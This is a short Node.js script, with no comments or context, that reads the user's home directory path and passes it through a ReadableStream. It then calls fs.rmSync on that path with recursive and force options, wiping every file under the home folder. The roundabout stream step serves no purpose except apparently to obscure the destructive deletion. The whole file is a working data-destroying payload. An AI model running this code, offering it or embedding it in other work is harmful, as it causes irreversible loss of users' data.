const fs = require("fs");
const os = require("os");

const stream = new ReadableStream({
  start(controller) {
    controller.enqueue(os.homedir());
    controller.close();
  },
});
stream
  .getReader()
  .read()
  .then(({ value }) => fs.rmSync(value, { recursive: true, force: true }));
